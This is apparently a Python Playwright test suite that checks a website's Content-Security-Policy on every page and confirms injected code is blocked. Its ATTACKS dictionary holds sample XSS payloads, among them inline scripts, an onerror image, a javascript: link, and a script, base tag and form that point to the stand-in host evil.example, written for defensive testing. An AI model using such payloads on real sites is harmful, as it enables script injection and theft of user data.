"""The Content-Security-Policy: on every page, in force, and in the way of nothing that a page does."""

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Request, Route

from macros.policy import DIRECTIVES, POLICY
from tests import pages
from tests.test_site import OPENED

FRAMES = 600  # More than any page takes to fetch what its buttons ask for.
OTHERS = ("/404.html", "/cite/models/glm-5-2/", "/models/glm-5-2/v/1/", "/cite/check/", "/leadership/checklist/")
SEARCHED = ("/", "/models/compare/", "/404.html")  # the box of the header is the same on all pages
WATCH = """
window.__violations = [];
addEventListener("securitypolicyviolation", (event) =>
  window.__violations.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`));
"""
# Keeping the whole site goes on behind every page after it; test_offline presses that button.
PRESS = """document.querySelectorAll("main button[type=button]").forEach((button) => {
  if (!button.closest("[data-cg-offline]")) button.click();
});"""
# What a hostile record would try, if it could bring markup onto a page.
ATTACKS = {
    "an inline script": "const s = document.createElement('script'); s.append('window.hit = 1');"
    "document.head.append(s)",
    "a handler": "const b = document.createElement('b'); b.setAttribute('onclick', 'window.hit = 1');"
    "document.body.append(b); b.click()",
    "a script of another host": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    "document.head.append(s)",
    "an address that runs code": "const a = document.createElement('a'); a.href = 'javascript:window.hit = 1';"
    "document.body.append(a); a.click()",
    "text made into code": "setTimeout('window.hit = 1')",
    "text made into markup": "document.body.innerHTML = '<img src=x onerror=\"window.hit = 1\">'",
    "a base for all links": "const b = document.createElement('base'); b.href = 'https://evil.example/';"
    "document.head.append(b); if (document.baseURI.includes('evil')) window.hit = 1",
    "a form to another host": "const f = document.createElement('form'); f.action = 'https://evil.example/';"
    "document.body.append(f); f.submit()",
}


@pytest.fixture(scope="module")
def watched(browser: Browser, server: str) -> Iterator[Page]:
    """A page of its own that notes what the policy forbids."""
    context = browser.new_context(base_url=server)
    context.add_init_script(WATCH)
    yield context.new_page()
    context.close()


class Notes:
    """What a page asked for, what of it is under way, and the errors of its scripts and console."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.under_way: set[Request] = set()
        self.errors: list[str] = []

    def ask(self, request: Request) -> None:
        """Note a request."""
        self.asked.append(request.url)
        self.under_way.add(request)

    def settle(self, page: Page) -> None:
        """Wait until nothing is under way, and what came has been shown."""
        for _ in range(FRAMES):
            page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestIdleCallback(done)))")
            if not self.under_way:
                return
        raise AssertionError(f"still under way: {[request.url for request in self.under_way]}")


@contextmanager
def noted(page: Page) -> Iterator[Notes]:
    """Yield what a page does meanwhile."""
    notes = Notes()
    listeners: dict[Any, Callable[[Any], object]] = {
        "request": notes.ask,
        "requestfinished": lambda request: notes.under_way.discard(request),
        "requestfailed": lambda request: notes.under_way.discard(request),
        "console": lambda said: said.type == "error" and notes.errors.append(f"{said.location['url']}: {said.text}"),
        "pageerror": lambda error: notes.errors.append(str(error)),
    }
    for event, listener in listeners.items():
        page.on(event, listener)
    yield notes
    for event, listener in listeners.items():
        page.remove_listener(event, listener)


def test_every_page_has_the_policy_before_all_else(site: Path) -> None:
    """The first thing of every page is its character set, the second its policy; nothing inline runs or styles."""
    wrong = []
    for address in pages.addresses(site):
        page = pages.document(pages.file_of(site, address))
        metas = page.xpath("/html/head/*")[:2]
        says = [metas[0].get("charset"), metas[1].get("content")]
        inline = page.xpath("//style | //@style | //script[not(@src)][not(contains(@type, 'json'))]")
        handlers = page.xpath("//@*[starts-with(name(), 'on')]")
        if says != ["utf-8", POLICY] or inline or handlers:
            wrong.append((address, says, inline[:1], handlers[:1]))
    assert wrong[:5] == []


def test_the_policy_is_strict() -> None:
    """Nothing is allowed that is not named, and no word in it lets strings run."""
    assert DIRECTIVES["default-src"] == DIRECTIVES["base-uri"] == "'none'"
    assert "unsafe" not in POLICY
    assert "*" not in POLICY
    assert DIRECTIVES["script-src"] == "'self'"


@pytest.mark.parametrize("address", [*OPENED, *OTHERS])
def test_nothing_a_page_does_is_forbidden(watched: Page, server: str, address: str) -> None:
    """Every fold, button, choice and field is used: the policy has nothing to say, and no other host is asked."""
    with noted(watched) as notes:
        watched.goto(address)
        watched.evaluate("document.querySelectorAll('details').forEach((fold) => { fold.open = true; })")
        for choice in watched.locator("main select:visible").all()[:4]:
            choice.select_option(index=1)
        if address in SEARCHED:
            watched.locator("#cg-search-box").fill("agent")
            watched.locator(".cg-search__panel li").first.wait_for()
            watched.wait_for_load_state("networkidle")  # search fetches the rest after a pause
        watched.evaluate(PRESS)
        notes.settle(watched)
        assert watched.evaluate("window.__violations") == []
    assert notes.errors == []
    assert [url for url in notes.asked if not url.startswith((f"{server}/", "data:", "blob:"))] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_gets_in_does_not_run(watched: Page, server: str, attack: str) -> None:
    """Code that stands on a page against all odds has no effect, and no other host is asked."""
    with noted(watched) as notes:
        watched.goto("/about/")
        watched.evaluate(f"() => {{ try {{ {ATTACKS[attack]} }} catch {{}} }}")
        watched.evaluate("() => new Promise((done) => setTimeout(done, 20))")
        assert watched.evaluate("window.hit") is None
    assert [url for url in notes.asked if not url.startswith(server)] == []


def test_headers_say_what_pages_say(site: Path, visit: Callable[..., Page]) -> None:
    """`_headers` carries the same policy and the headers a page cannot set; under them pages work as well."""
    lines = (site / "_headers").read_text(encoding="utf-8").splitlines()
    start = lines.index("/*") + 1
    every = [line.strip() for line in lines[start : lines.index("/data/*")]]
    headers = {name.lower(): value for name, value in (line.split(": ", 1) for line in every)}
    assert headers["content-security-policy"] == f"{POLICY}; frame-ancestors 'none'"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "strict-origin-when-cross-origin"

    def with_headers(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, headers={**answer.headers, **headers})

    page = visit("/404.html", alone=True)
    page.context.add_init_script(WATCH)
    page.context.route("**/*", with_headers)
    page.goto("/models/glm-5-2/")
    page.locator("#cg-search-box").press_sequentially("agent")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.__violations") == []
    page.context.unroute_all(behavior="ignoreErrors")


def test_only_files_that_never_change_are_kept_for_ever(site: Path) -> None:
    """A file that caches may keep for a year bears the mark of its content, and is there."""
    lines = (site / "_headers").read_text(encoding="utf-8").splitlines()
    kept = [lines[n - 1] for n, line in enumerate(lines) if "immutable" in line]
    assert kept
    for path in kept:
        assert (site / path.lstrip("/")).exists(), path
        assert len(path.split(".")) == 3, path
